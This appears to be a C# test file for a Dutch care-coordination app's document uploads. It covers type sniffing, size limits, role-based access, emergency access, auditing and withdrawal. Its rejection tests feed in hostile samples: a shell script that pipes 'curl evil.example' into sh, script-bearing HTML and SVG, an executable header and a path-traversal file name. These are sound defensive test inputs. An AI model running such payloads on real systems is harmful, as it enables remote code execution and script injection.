using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Regie.Domain.Access;
using Regie.Domain.Care;
using Regie.Web.Data;
using Regie.Web.Features.Audit;
using Regie.Web.Features.Documents;
using Regie.Web.Infrastructure;
using Regie.Web.Infrastructure.Demo;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using static Regie.Web.Tests.MeldcodeSteps;

namespace Regie.Web.Tests;

/// <summary>
/// Issue 21 point 7: documents in a household's file, linked to the household, a member, a goal or a conference. The type is
/// told from the content; a file that lies about its type is refused with its code and nothing is saved; downloads are
/// attachments, never rendered, and audited; a withdrawn document keeps its record without its content. Care roles that may
/// open the file only.
/// </summary>
public sealed class DocumentTests(RegistryFixture fixture) : IClassFixture<RegistryFixture>
{
    private readonly TestApp _app = fixture.App;
    private Given Given { get; } = new(fixture.App);

    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n");

    private static string Base(Guid household) => $"/api/v1/households/{household}/documents";

    private static MultipartFormDataContent Form(string name, byte[] content, string contentType = "application/pdf", params (string Key, string Value)[] fields)
    {
        var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(content);
        file.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
        form.Add(file, "bestand", name);
        foreach (var (key, value) in fields) form.Add(new StringContent(value), key);
        return form;
    }

    private static Task<HttpResponseMessage> UploadAsync(HttpClient client, Guid household, string name, byte[] content, string contentType = "application/pdf",
        params (string, string)[] fields) => client.PostAsync(Base(household), Form(name, content, contentType, fields));

    private static async Task<Guid> UploadedAsync(HttpResponseMessage response)
    {
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.Created, $"{(int)response.StatusCode}: {text}");
        return JsonDocument.Parse(text).RootElement.GetProperty("id").GetGuid();
    }

    private async Task<int> StoredAsync(Guid household)
    {
        await using var scope = _app.Scope();
        var db = scope.ServiceProvider.GetRequiredService<RegieDbContext>();
        return await db.Documents.CountAsync(d => d.HouseholdId == household) + await db.DocumentContents.CountAsync(c => c.HouseholdId == household);
    }

    private static byte[] Zip(params (string Name, string Text)[] entries)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, text) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open(), Encoding.UTF8);
                writer.Write(text);
            }
        return memory.ToArray();
    }

    [Fact]
    public async Task Coordinator_uploads_a_pdf_for_a_goal_and_downloads_it_as_an_attachment_with_the_sniffed_type()
    {
        var planned = await Given.HouseholdWithPlanAndGoal("Documentdoel", "Sanne", team: Given.Noord);
        using var client = await _app.SignedInClientAsync();
        // The upload says it is HTML and calls itself "../huurbrief.pdf": the content is a PDF, and that is what counts.
        var id = await UploadedAsync(await UploadAsync(client, planned.Household, "../huurbrief corporatie;.pdf", Pdf, "text/html",
            ("doelId", planned.Goal.ToString()), ("omschrijving", "Brief van de corporatie over de regeling")));

        var list = await OkAsync(await client.GetAsync(Base(planned.Household)));
        var doc = Assert.Single(list.EnumerateArray());
        Assert.Equal(("huurbrief corporatie_.pdf", "Pdf", "application/pdf", Pdf.Length, planned.Goal),
            (doc.GetProperty("bestandsnaam").GetString(), doc.GetProperty("soort").GetString(), doc.GetProperty("mediatype").GetString(),
                doc.GetProperty("grootte").GetInt32(), doc.GetProperty("doelId").GetGuid()));
        Assert.False(doc.TryGetProperty("content", out _));

        var download = await client.GetAsync($"{Base(planned.Household)}/{id}/content");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal(Pdf, await download.Content.ReadAsByteArrayAsync());
        Assert.Equal("application/pdf", download.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("huurbrief corporatie_.pdf", download.Content.Headers.ContentDisposition.FileNameStar);
        Assert.Equal("nosniff", Assert.Single(download.Headers.GetValues("X-Content-Type-Options")));

        // The page offers the same file the same way.
        var page = await client.GetAsync($"/huishoudens/{planned.Household}/documenten/{id}/bestand");
        Assert.Equal(("attachment", "application/pdf"), (page.Content.Headers.ContentDisposition!.DispositionType, page.Content.Headers.ContentType!.MediaType));

        await using var scope = _app.Scope();
        var audit = await scope.ServiceProvider.GetRequiredService<RegieDbContext>().AuditEntries
            .Where(a => a.HouseholdId == planned.Household && a.Resource == AuditResources.Document).ToListAsync();
        Assert.Equal(1, audit.Count(a => a.Action == AuditActions.Create));
        var downloads = audit.Where(a => a.Action == AuditActions.Export).ToList();
        Assert.Equal(2, downloads.Count);
        Assert.All(downloads, a => Assert.Equal($"document {id} gedownload", a.Detail));
        Assert.All(downloads, a => Assert.False(string.IsNullOrEmpty(a.ActorId)));
    }

    public static TheoryData<string, string, byte[], string> Lies => new()
    {
        { "HTML named .pdf", "brief.pdf", Encoding.UTF8.GetBytes("<!DOCTYPE html><html><script>fetch('/api')</script></html>"), DocumentRules.ActiveContentCode },
        { "script named .png", "foto.png", Encoding.UTF8.GetBytes("#!/bin/bash\ncurl evil.example | sh\n"), DocumentRules.ActiveContentCode },
        { "SVG sent as image/png", "logo.png", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), DocumentRules.ActiveContentCode },
        { "a zip that is not Office", "brief.docx", Zip(("readme.txt", "hallo")), DocumentRules.NotOfficeCode },
        { "an executable", "brief.pdf", [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0, 4, 0], DocumentRules.ExecutableCode },
        { "an empty file", "leeg.pdf", [], DocumentRules.EmptyCode },
    };

    [Theory]
    [MemberData(nameof(Lies))]
    public async Task An_upload_that_lies_about_its_type_is_refused_with_its_code_and_nothing_is_saved(string what, string name, byte[] content, string code)
    {
        var family = await Given.Family("Leugen" + new string(what.Where(char.IsLetter).ToArray()), team: Given.Noord);
        using var client = await _app.SignedInClientAsync();
        Assert.Equal((code, "bestand"), await ProblemAsync(await UploadAsync(client, family.Household, name, content, "image/png"), HttpStatusCode.BadRequest));
        Assert.Equal(0, await StoredAsync(family.Household));
    }

    [Fact]
    public async Task A_file_one_byte_over_the_limit_is_refused_and_a_body_over_the_request_limit_gets_413()
    {
        var family = await Given.Family("Documentgroot", team: Given.Noord);
        using var client = await _app.SignedInClientAsync();
        var over = new byte[DocumentRules.MaxBytes + 1];
        Pdf.CopyTo(over, 0);
        Assert.Equal((DocumentRules.TooLargeCode, "bestand"), await ProblemAsync(await UploadAsync(client, family.Household, "groot.pdf", over), HttpStatusCode.BadRequest));
        // Larger than any upload may be: refused before the body is sent (the client waits for "100 Continue", which never comes).
        using (var request = new HttpRequestMessage(HttpMethod.Post, Base(family.Household)) { Content = Form("te-groot.pdf", new byte[DocumentsApi.MaxRequestBytes + 1]) })
        {
            request.Headers.ExpectContinue = true;
            Assert.Equal(("request-too-large", ""), await ProblemAsync(await client.SendAsync(request), HttpStatusCode.RequestEntityTooLarge));
        }
        Assert.Equal(0, await StoredAsync(family.Household));
        // JSON is not a file.
        Assert.Equal(("unsupported-media-type", ""), await ProblemAsync(await client.PostAsJsonAsync(Base(family.Household), new { bestand = "x" }), HttpStatusCode.UnsupportedMediaType));
    }

    [Fact]
    public async Task A_person_goal_or_conference_of_another_household_cannot_be_linked_at_upload()
    {
        var own = await Given.HouseholdWithPlanAndGoal("Documenteigen", "Sanne", team: Given.Noord);
        var other = await Given.HouseholdWithPlanAndGoal("Documentander", "Kees", team: Given.Noord);
        using var client = await _app.SignedInClientAsync();
        var conference = await UploadTargetConferenceAsync(client, other.Household, other.Person);
        foreach (var (field, value) in new[] { ("persoonId", other.Person), ("doelId", other.Goal), ("overlegId", conference) })
            Assert.Equal((DocumentRules.LinkUnknownCode, field), await ProblemAsync(await UploadAsync(client, own.Household, "brief.pdf", Pdf, "application/pdf", (field, value.ToString())),
                HttpStatusCode.BadRequest));
        Assert.Equal(0, await StoredAsync(own.Household));
        // Their own are fine.
        await UploadedAsync(await UploadAsync(client, own.Household, "brief.pdf", Pdf, "application/pdf", ("persoonId", own.Person.ToString())));
    }

    private static async Task<Guid> UploadTargetConferenceAsync(HttpClient client, Guid household, Guid member)
    {
        var response = await client.PostAsJsonAsync($"/api/v1/households/{household}/conferences", new
        {
            soort = "Evaluatie", datum = DateTime.UtcNow.AddDays(5).ToString("dd-MM-yyyy", System.Globalization.CultureInfo.InvariantCulture), begintijd = "10:00", eindtijd = "11:00",
            plaats = "Wijkcentrum", genodigden = new object[] { new { soort = "Huishoudlid", referentieId = member } },
        });
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        return JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("id").GetGuid();
    }

    [Fact]
    public async Task Only_the_care_roles_that_may_open_the_file_upload_list_or_download_its_documents()
    {
        var family = await Given.Family("Documenttoegang", team: Given.Noord);
        using var coordinator = await _app.SignedInClientAsync();
        var id = await UploadedAsync(await UploadAsync(coordinator, family.Household, "brief.pdf", Pdf));
        foreach (var login in DemoSeeder.Logins.DistinctBy(l => l.Role))
        {
            using var client = await _app.SignedInClientAsync(login.Email);
            var expected = login.Role switch
            {
                Roles.Professional or Roles.Teamleider => HttpStatusCode.OK,
                // No team: a file a team holds is not the consultant's to open unless added to it.
                Roles.Consulent => HttpStatusCode.NotFound,
                _ => HttpStatusCode.Forbidden,
            };
            Assert.True(expected == (await client.GetAsync(Base(family.Household))).StatusCode, $"{login.Role} list");
            Assert.True(expected == (await client.GetAsync($"{Base(family.Household)}/{id}/content")).StatusCode, $"{login.Role} download");
            var upload = await UploadAsync(client, family.Household, "ander.pdf", Pdf);
            Assert.True((expected == HttpStatusCode.OK ? HttpStatusCode.Created : expected) == upload.StatusCode, $"{login.Role} upload {(int)upload.StatusCode}");
            Assert.True(expected == (await client.GetAsync($"/huishoudens/{family.Household}/documenten")).StatusCode || expected == HttpStatusCode.Forbidden,
                $"{login.Role} page");
        }

        // Another team: not found, as an id that does not exist; a document id under another household: not found too.
        using var zuid = await _app.SignedInClientAsync("regisseur.zuid@voorbeeld.nl");
        Assert.Equal((Regie.Domain.Common.DomainError.NotFoundCode, ""), await ProblemAsync(await zuid.GetAsync($"{Base(family.Household)}/{id}/content"), HttpStatusCode.NotFound));
        Assert.Equal((Regie.Domain.Common.DomainError.NotFoundCode, ""), await ProblemAsync(await UploadAsync(zuid, family.Household, "x.pdf", Pdf), HttpStatusCode.NotFound));
        var other = await Given.Family("Documentbuur", team: Given.Noord);
        Assert.Equal((Regie.Domain.Common.DomainError.NotFoundCode, ""), await ProblemAsync(await coordinator.GetAsync($"{Base(other.Household)}/{id}/content"), HttpStatusCode.NotFound));
        Assert.Equal((Regie.Domain.Common.DomainError.NotFoundCode, ""), await ProblemAsync(await coordinator.PostAsJsonAsync($"{Base(other.Household)}/{id}/withdraw",
            new { reden = "Verkeerd dossier", versie = 1 }), HttpStatusCode.NotFound));
        Assert.Equal(HttpStatusCode.NotFound, (await coordinator.GetAsync($"/huishoudens/{other.Household}/documenten/{id}/bestand")).StatusCode);

        // Emergency access downloads (audited) but neither uploads nor withdraws.
        var token = await TestApp.AntiforgeryTokenAsync(zuid, $"/huishoudens/{family.Household}/noodtoegang");
        Assert.Equal(HttpStatusCode.Redirect, (await zuid.PostAsync($"/huishoudens/{family.Household}/noodtoegang", new FormUrlEncodedContent(new Dictionary<string, string>
        { ["Input.Reden"] = "Crisismelding in de nacht, eigen regisseur onbereikbaar", ["__RequestVerificationToken"] = token }))).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await zuid.GetAsync($"{Base(family.Household)}/{id}/content")).StatusCode);
        Assert.Equal((FileAccessRules.EmergencyReadOnlyCode, ""), await ProblemAsync(await UploadAsync(zuid, family.Household, "x.pdf", Pdf), HttpStatusCode.Forbidden));
        Assert.Equal((FileAccessRules.EmergencyReadOnlyCode, ""), await ProblemAsync(await zuid.PostAsJsonAsync($"{Base(family.Household)}/{id}/withdraw",
            new { reden = "x", versie = 1 }), HttpStatusCode.Forbidden));
    }

    [Fact]
    public async Task Withdrawing_a_document_removes_its_content_and_keeps_its_record()
    {
        var family = await Given.Family("Documentintrekken", team: Given.Noord);
        using var client = await _app.SignedInClientAsync();
        var id = await UploadedAsync(await UploadAsync(client, family.Household, "brief.pdf", Pdf));
        var path = $"{Base(family.Household)}/{id}";
        Assert.Equal(("text-required", "reden"), await ProblemAsync(await client.PostAsJsonAsync($"{path}/withdraw", new { reden = " ", versie = 1 }), HttpStatusCode.BadRequest));
        Assert.Equal(2, await VersionAsync(await client.PostAsJsonAsync($"{path}/withdraw", new { reden = "Verkeerd huishouden", versie = 1 })));
        Assert.Equal((DocumentRules.WithdrawnCode, ""), await ProblemAsync(await client.PostAsJsonAsync($"{path}/withdraw", new { reden = "Nog eens", versie = 2 }), HttpStatusCode.BadRequest));
        // With the version seen before it was withdrawn, too: withdrawn, not "reload and try again".
        Assert.Equal((DocumentRules.WithdrawnCode, ""), await ProblemAsync(await client.PostAsJsonAsync($"{path}/withdraw", new { reden = "Nog eens", versie = 1 }), HttpStatusCode.BadRequest));
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync($"{path}/content")).StatusCode);

        var doc = Assert.Single((await OkAsync(await client.GetAsync(Base(family.Household)))).EnumerateArray());
        Assert.Equal((true, "Verkeerd huishouden", "brief.pdf"), (doc.GetProperty("ingetrokken").GetBoolean(), doc.GetProperty("reden").GetString(), doc.GetProperty("bestandsnaam").GetString()));
        await using var scope = _app.Scope();
        var db = scope.ServiceProvider.GetRequiredService<RegieDbContext>();
        Assert.False(await db.DocumentContents.AnyAsync(c => c.DocumentId == id));
        Assert.Equal(64, (await db.Documents.SingleAsync(d => d.Id == id)).Sha256.Length);
    }

    [Fact]
    public async Task Coordinator_uploads_with_the_form_without_javascript_and_sees_a_dutch_error_for_a_fake_pdf()
    {
        var family = await Given.Family("Documentformulier", team: Given.Noord);
        using var client = await _app.SignedInClientAsync();
        var page = $"/huishoudens/{family.Household}/documenten";
        var token = await TestApp.AntiforgeryTokenAsync(client, page);
        MultipartFormDataContent PageForm(string name, byte[] content)
        {
            var form = new MultipartFormDataContent();
            var file = new ByteArrayContent(content);
            file.Headers.ContentType = MediaTypeHeaderValue.Parse("application/pdf");
            form.Add(file, "Bestand", name);
            form.Add(new StringContent($"Persoon:{family.Child}"), "Koppeling");
            form.Add(new StringContent("Schoolrapport"), "Omschrijving");
            form.Add(new StringContent(token), "__RequestVerificationToken");
            return form;
        }
        var refused = await client.PostAsync(page, PageForm("rapport.pdf", Encoding.UTF8.GetBytes("<html><body>nep</body></html>")));
        Assert.Equal(HttpStatusCode.OK, refused.StatusCode);
        Assert.Contains("Dit bestand bevat HTML, SVG, XML of een script.", WebUtility.HtmlDecode(await refused.Content.ReadAsStringAsync()), StringComparison.Ordinal);
        Assert.Equal(0, await StoredAsync(family.Household));

        var saved = await client.PostAsync(page, PageForm("rapport.pdf", Pdf));
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var html = WebUtility.HtmlDecode(await (await client.GetAsync(page)).Content.ReadAsStringAsync());
        Assert.Contains("rapport.pdf", html, StringComparison.Ordinal);
        Assert.Contains("Schoolrapport", html, StringComparison.Ordinal);
        await using var scope = _app.Scope();
        Assert.Equal(family.Child, (await scope.ServiceProvider.GetRequiredService<RegieDbContext>().Documents.SingleAsync(d => d.HouseholdId == family.Household)).PersonId);
    }
}
